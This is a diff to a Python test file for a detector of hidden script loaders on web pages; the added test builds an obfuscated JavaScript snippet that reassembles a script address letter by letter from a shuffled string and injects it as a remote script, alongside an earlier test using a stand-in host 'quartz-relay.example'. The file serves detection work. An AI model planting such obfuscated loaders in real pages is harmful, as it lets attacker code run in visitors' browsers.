@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import base64
 import json
+import random
 
 import pytest
 from hypothesis import given, settings
@@ -120,3 +121,19 @@ def test_a_hidden_loader_on_a_site_that_never_had_one_is_decisive(script: str) -
     [finding] = det.detect(trusted_part(det), page(news_page(9, body_extra=script)))
     assert finding.score >= 0.5 and "quartz-relay.example" in finding.reason
     assert "hides" in finding.reason
+
+
+@settings(max_examples=30, deadline=None)
+@given(seed=st.randoms(use_true_random=False))
+def test_positions_into_a_scrambled_string_are_read(seed: random.Random) -> None:
+    """``[1,12,12,...].map(k => pool.charAt(k))``: the address is picked letter by letter from a
+    literal holding its letters in any order."""
+    pool = sorted(set(ADDRESS))
+    seed.shuffle(pool)
+    positions = ",".join(str(pool.index(ch)) for ch in ADDRESS)
+    code = (
+        "(function(a,i){var u=i.map(function(k){return a.charAt(k)}).join('');"
+        "var s=document.createElement('script');s.src=u;document.body.appendChild(s);})"
+        f"({json.dumps(''.join(pool))},[{positions}]);"
+    )
+    assert ADDRESS in decoded_texts(code)
